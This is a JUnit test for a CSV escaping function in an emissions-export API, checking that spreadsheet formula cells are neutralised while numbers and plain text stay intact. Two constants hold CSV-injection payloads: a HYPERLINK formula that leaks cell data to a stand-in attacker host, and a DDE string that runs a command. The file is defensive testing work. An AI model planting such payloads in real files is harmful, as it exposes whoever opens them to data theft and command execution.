package io.wattkeeper.api.codecarbon;

import static io.wattkeeper.api.codecarbon.EmissionsCsvColumns.escape;
import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;

class EmissionsCsvColumnsTest {

  /** The two payloads that reached the export's region column as they were. */
  public static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")";

  public static final String DDE = "@SUM(1+1)*cmd|' /C calc'!A0";

  @Test
  void formulaCellsGetALeadingQuoteAndAreQuoted() {
    assertThat(escape(HYPERLINK))
        .isEqualTo("\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"Click\"\")\"");
    assertThat(escape(DDE)).isEqualTo("\"'@SUM(1+1)*cmd|' /C calc'!A0\"");
    assertThat(escape("+cmd")).isEqualTo("\"'+cmd\"");
    assertThat(escape("-2+3")).isEqualTo("\"'-2+3\"");
    assertThat(escape("\tx")).isEqualTo("\"'\tx\"");
    assertThat(escape("\r=1")).isEqualTo("\"'\r=1\"");
  }

  @Test
  void numbersStayNumbersAndPlainTextIsUntouched() {
    assertThat(escape("-0.5")).isEqualTo("-0.5");
    assertThat(escape("+12")).isEqualTo("+12");
    assertThat(escape("-1.5e-3")).isEqualTo("-1.5e-3");
    assertThat(escape("DE")).isEqualTo("DE");
    assertThat(escape("a=b")).isEqualTo("a=b");
    assertThat(escape(null)).isEmpty();
    assertThat(escape("")).isEmpty();
    assertThat(escape("a,b")).isEqualTo("\"a,b\"");
  }
}
